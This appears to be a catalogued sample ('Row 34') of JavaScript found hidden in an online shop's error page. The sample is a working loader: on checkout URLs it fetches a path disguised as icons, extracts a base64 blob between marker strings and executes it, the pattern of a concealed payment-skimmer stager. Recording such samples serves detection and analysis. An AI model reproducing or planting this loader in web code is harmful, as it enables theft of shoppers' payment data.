// Row 34: the code is in the shop's own error page.
if (/checkout/.test(location)) fetch('/icons/').then(function (r) { return r.text(); }).then(function (t) {
  var m = /COOKIE_ANNOT(.*?)END/.exec(t);
  if (m) { var f = new Function(atob(m[1])); f(); }
});
